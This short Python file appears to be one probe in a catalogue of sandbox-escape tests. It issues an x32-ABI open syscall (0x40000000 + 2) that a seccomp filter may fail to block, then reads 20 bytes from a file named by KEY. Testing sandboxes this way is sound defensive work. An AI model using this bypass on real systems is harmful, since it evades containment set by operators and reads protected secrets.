"""Makes system calls in the numbering of another architecture, which a filter may forget.

catalogue: own
"""

import ctypes
import os


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(0x40000000 + 2, KEY.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(fd, 20)
